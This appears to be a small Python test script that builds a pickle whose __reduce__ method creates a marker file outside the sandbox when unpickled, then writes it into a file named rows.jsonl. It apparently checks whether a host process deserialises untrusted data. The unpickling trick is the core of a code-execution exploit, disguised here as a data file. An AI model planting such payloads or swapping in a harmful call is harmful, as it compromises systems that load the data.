"""Report a pickle that does something when it is loaded."""

import json
import pickle
from pathlib import Path

TARGET = json.loads(Path("target.json").read_bytes())
MARK = Path(TARGET["outside"]) / TARGET["mark"]


class Trap:
    """Makes a file when it is unpickled."""

    def __reduce__(self) -> tuple[object, ...]:
        return Path.touch, (MARK,)


Path("rows.jsonl").write_bytes(pickle.dumps(Trap()))
print("blocked: unless the host loads it", flush=True)
